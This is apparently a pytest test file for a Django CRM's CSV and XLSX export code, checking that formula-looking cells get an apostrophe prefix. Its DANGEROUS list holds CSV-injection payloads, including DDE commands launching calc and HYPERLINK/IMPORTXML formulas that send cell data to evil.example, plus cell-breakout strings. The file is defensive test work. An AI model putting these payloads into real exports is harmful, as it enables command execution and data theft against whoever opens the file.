"""Exports never hand a spreadsheet a formula (CSV injection), whatever the text hides."""

import csv
import io
import unicodedata
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest
import time_machine
from django.http import FileResponse, Http404, StreamingHttpResponse
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from crm.core.exports import csv_lines, export_response, neutralize, xlsx_file

# Known ways to slip a formula past a naive "starts with =" check.
DANGEROUS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@A1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Pulse aquí")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    "=1+1;2",
    '=1+1"',
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " \t\r\n=1+1",
    "\x00=1+1",
    "\x01=1+1",
    "\x0b=1+1",
    "\x1b=1+1",
    "\x7f=1+1",
    "\x85=1+1",
    "\xa0=1+1",  # non-breaking space
    "\u200b=1+1",  # zero-width space
    "\u200c\u200d=1+1",
    "\u2060=1+1",  # word joiner
    "\u00ad=1+1",  # soft hyphen
    "\u200e-1+1",  # left-to-right mark
    "\u202e@SUM(1+1)",  # right-to-left override
    "\u3000=1+1",  # ideographic space
    "\u2028=1+1",  # line separator
    "\ufeff=1+1",  # BOM
    "\ufeff\xa0\u200b\t=1+1",
    "＝1+1",  # full-width forms
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "\u3000＝1+1",
    "﹦1+1",  # small forms
    "﹢1+1",
    "﹣1+1",
    "﹫SUM(1+1)",
]

# Texts that look close to a formula but are not one: they stay as they are.
SAFE = [
    "Muñoz y Asociados SL",
    "a@b.com",
    "ana.garcia@example.com",
    "C/ Mayor, 1 - 2º B",
    "1+1",
    "(=1+1)",
    "'=1+1",
    "Plan 2024 - fase 2",
    "100 %",
    "",
]

# Texts that try to close the cell and open a new one: one cell, same text, after parsing.
BREAKOUTS = [
    'a";=1+1',
    "a;=1+1",
    "a,=1+1",
    "a\t=1+1",
    "x\n=1+1",
    "x\r\n=1+1",
    'x"\r\n=1+1;"',
    '"";=1+1',
]

INVISIBLE_CATEGORIES = {"Cc", "Cf", "Zs", "Zl", "Zp"}
TRIGGERS = tuple("=+-@＝＋－＠﹦﹢﹣﹫")


def _visible_start(text: str) -> str:
    """The text without the white space and control characters a spreadsheet skips."""
    for index, ch in enumerate(text):
        if not (ch.isspace() or unicodedata.category(ch) in INVISIBLE_CATEGORIES):
            return text[index:]
    return ""


def _parse_csv(lines) -> list[list[str]]:
    text = "".join(lines)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))


def _load_xlsx(file) -> list[list[openpyxl.cell.Cell]]:
    with file:
        workbook = openpyxl.load_workbook(file)
    return [list(row) for row in workbook.active.iter_rows()]


@pytest.mark.parametrize("value", DANGEROUS)
def test_neutralize_prefixes_an_apostrophe_to_every_formula_trigger(value):
    # When
    result = neutralize(value)

    # Then
    assert result == "'" + value


@pytest.mark.parametrize("value", SAFE + BREAKOUTS)
def test_neutralize_leaves_other_text_alone(value):
    assert neutralize(value) == value


@given(st.text())
@example("\u2060=1+1")
@example("\U000e0001=1+1")
@example("\x80+1")
def test_neutralized_text_never_starts_with_a_trigger_once_invisible_characters_are_skipped(text):
    # When
    result = neutralize(text)

    # Then the visible text starts with the apostrophe or with something harmless
    assert not _visible_start(result).startswith(TRIGGERS)
    # and the text is otherwise kept whole, and neutralising twice changes nothing
    assert result in (text, "'" + text)
    assert neutralize(result) == result


_invisible = st.sampled_from(
    [" ", "\t", "\r", "\n", "\x00", "\x1f", "\x7f", "\x9f", "\xa0", "\u200b", "\ufeff", "\u2060"]
)


@given(st.text(_invisible, max_size=5), st.sampled_from(TRIGGERS), st.text(max_size=20))
def test_neutralize_catches_any_trigger_behind_any_invisible_prefix(prefix, trigger, rest):
    value = prefix + trigger + rest

    assert neutralize(value) == "'" + value


def test_csv_lines_neutralises_dangerous_cells_and_keeps_the_columns():
    # Given
    headers = ["=Nombre", "Nota", "E-mail"]
    rows = [[value, "nota", "a@b.com"] for value in DANGEROUS]

    # When
    parsed = _parse_csv(csv_lines(headers, rows))

    # Then
    assert parsed[0] == ["'=Nombre", "Nota", "E-mail"]
    assert len(parsed) == len(DANGEROUS) + 1
    for row, value in zip(parsed[1:], DANGEROUS, strict=True):
        assert len(row) == 3
        assert row[0] == "'" + value
        assert row[0].startswith("'")
        assert row[1:] == ["nota", "a@b.com"]


def test_csv_lines_keeps_breakout_attempts_inside_their_cell():
    # Given
    rows = [["antes", value, "después"] for value in BREAKOUTS]

    # When
    parsed = _parse_csv(csv_lines(["a", "b", "c"], rows))

    # Then every row still has three cells, and the middle one is the whole text
    assert parsed[1:] == [["antes", value, "después"] for value in BREAKOUTS]
    for row in parsed:
        assert not any(_visible_start(cell).startswith(TRIGGERS) for cell in row)


def test_csv_lines_writes_safe_values_and_numbers_in_spanish_format():
    # Given
    aware = datetime(2024, 3, 5, 23, 30, tzinfo=UTC)
    row = [*SAFE, 1234, -5, Decimal("-1234.50"), date(2024, 3, 5), aware, True, False, None]

    # When
    parsed = _parse_csv(csv_lines(["h"] * len(row), [row]))

    # Then
    expected = [*SAFE, "1234", "-5", "-1234,50", "05/03/2024", "06/03/2024 00:30", "Sí", "No", ""]
    assert parsed[1] == expected


def test_csv_lines_starts_with_a_bom_and_ends_lines_with_crlf():
    lines = list(csv_lines(["Nombre", "Ciudad"], [["Muñoz", "Cádiz"]]))

    assert lines == ["\ufeffNombre;Ciudad\r\n", "Muñoz;Cádiz\r\n"]


@given(st.lists(st.text(max_size=30), min_size=1, max_size=6))
def test_csv_lines_round_trips_any_row_with_the_same_columns(row):
    # When
    parsed = _parse_csv(csv_lines(["h"] * len(row), [row]))

    # Then
    assert parsed[1] == [neutralize(value) for value in row]
    assert not any(_visible_start(cell).startswith(TRIGGERS) for cell in parsed[1])


def test_xlsx_file_writes_no_formula_and_neutralises_dangerous_text():
    # Given
    headers = ["=Nombre", "Nota"]
    rows = [[value, "nota"] for value in DANGEROUS]

    # When
    cells = _load_xlsx(xlsx_file(headers, rows))

    # Then
    assert [cell.value for cell in cells[0]] == ["'=Nombre", "Nota"]
    assert len(cells) == len(DANGEROUS) + 1
    assert not [cell for row in cells for cell in row if cell.data_type == "f"]
    for row, value in zip(cells[1:], DANGEROUS, strict=True):
        assert row[0].data_type == "s"
        assert row[0].value.startswith("'")
        # XML cannot hold most C0 control characters, and reads a CR as a line feed.
        expected = ILLEGAL_CHARACTERS_RE.sub("", "'" + value).replace("\r\n", "\n")
        assert row[0].value == expected.replace("\r", "\n")
        assert row[1].value == "nota"


def test_xlsx_file_keeps_breakouts_safe_text_and_typed_values():
    # Given
    aware = datetime(2024, 3, 5, 23, 30, tzinfo=UTC)
    row = ['a";=1+1', "x\n=1+1", "a@b.com", 1234, -5, Decimal("-1234.50"), date(2024, 3, 5)]
    row += [aware, True]

    # When
    cells = _load_xlsx(xlsx_file(["h"] * len(row), [row]))

    # Then
    assert [cell.value for cell in cells[1]] == [
        'a";=1+1',
        "x\n=1+1",
        "a@b.com",
        1234,
        -5,
        -1234.5,
        datetime(2024, 3, 5, 0, 0),  # noqa: DTZ001 - spreadsheets have no time zones
        datetime(2024, 3, 6, 0, 30),  # noqa: DTZ001 - shown in Madrid time
        "Sí",
    ]
    assert [cell.data_type for cell in cells[1]] == ["s", "s", "s", "n", "n", "n", "d", "d", "s"]
    assert cells[1][6].number_format == "DD/MM/YYYY"
    assert cells[1][7].number_format == "DD/MM/YYYY HH:MM"


@time_machine.travel(datetime(2024, 3, 5, 9, 30, tzinfo=UTC), tick=False)
def test_export_response_streams_csv_named_with_the_local_time():
    # When
    response = export_response(
        fmt="csv", filename="cuentas", headers=["Nombre"], rows=[["=1+1"], ["Muñoz"]]
    )

    # Then
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="cuentas-20240305-1030.csv"'
    body = b"".join(response.streaming_content).decode()
    assert body == "\ufeffNombre\r\n'=1+1\r\nMuñoz\r\n"


@time_machine.travel(datetime(2024, 3, 5, 9, 30, tzinfo=UTC), tick=False)
def test_export_response_sends_an_xlsx_file():
    # When
    response = export_response(
        fmt="xlsx", filename="cuentas", headers=["Nombre"], rows=[["=1+1"], ["Muñoz"]]
    )

    # Then
    assert isinstance(response, FileResponse)
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"] == ('attachment; filename="cuentas-20240305-1030.xlsx"')
    content = b"".join(response.streaming_content)
    response.file_to_stream.close()  # response.close() would signal request_finished
    cells = _load_xlsx(io.BytesIO(content))
    assert [[cell.value for cell in row] for row in cells] == [["Nombre"], ["'=1+1"], ["Muñoz"]]


@pytest.mark.parametrize("fmt", ["pdf", "CSV", "", "xls"])
def test_export_response_answers_404_for_another_format(fmt):
    with pytest.raises(Http404):
        export_response(fmt=fmt, filename="cuentas", headers=["Nombre"], rows=[])
